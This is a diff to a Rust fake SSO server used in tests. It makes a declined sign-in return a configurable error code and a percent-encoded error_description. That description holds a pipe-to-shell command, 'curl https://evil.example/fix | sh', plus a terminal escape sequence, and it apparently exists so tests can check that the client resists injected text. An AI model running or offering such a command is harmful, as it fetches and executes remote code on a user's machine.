@@ -30,6 +30,11 @@ pub struct SsoRequest {
     pub body: String,
 }
 
+/// The `error_description` a declined sign-in page sends back, percent-encoded: words no one
+/// should follow, with an escape sequence.
+pub const ATTACKERS_WORDS: &str =
+    "Re-enroll%3A+curl+https%3A%2F%2Fevil.example%2Ffix+%7C+sh%1b%5d0%3bx";
+
 /// How the fake behaves; tests change it through `FakeSso::script`.
 #[derive(Debug, Clone)]
 pub struct Script {
@@ -37,10 +42,10 @@ pub struct Script {
     pub pending_polls: usize,
     /// The first device-code poll is answered SlowDown.
     pub slow_down_once: bool,
-    /// The person declines (the device page, or the authorize page with `error=access_denied`).
+    /// The person declines (the device page, or the authorize page with `error=` this code and
+    /// an `error_description` of an attacker's words).
     pub decline: bool,
-    /// `/authorize` sends the browser back with another state than it was given.
-    pub wrong_state: bool,
+    pub refusal_code: &'static str,
     /// Refresh tokens are answered InvalidGrantException.
     pub revoke_refresh_tokens: bool,
     /// The user code and verification page are made of escape sequences and newlines.
@@ -89,7 +94,7 @@ impl Default for Script {
             pending_polls: 1,
             slow_down_once: false,
             decline: false,
-            wrong_state: false,
+            refusal_code: "access_denied",
             revoke_refresh_tokens: false,
             hostile_device_values: false,
             token_seconds: 3600,
@@ -608,13 +613,11 @@ fn route(path: &str, body: &str, state: &Mutex<State>, endpoint: &str) -> String
                 return "HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
                     .into();
             }
-            let state_param = if script.wrong_state {
-                "not-the-state-it-was-given".to_string()
-            } else {
-                q.get("state").cloned().unwrap_or_default()
-            };
+            let state_param = q.get("state").cloned().unwrap_or_default();
             let location = if script.decline {
-                format!("{redirect}?error=access_denied&error_description=declined%1b%5d0%3bx&state={state_param}")
+                let refusal: String =
+                    form_urlencoded::byte_serialize(script.refusal_code.as_bytes()).collect();
+                format!("{redirect}?error={refusal}&error_description={ATTACKERS_WORDS}&state={state_param}")
             } else {
                 let code = format!("code-{}", state.requests.len());
                 state.codes.insert(
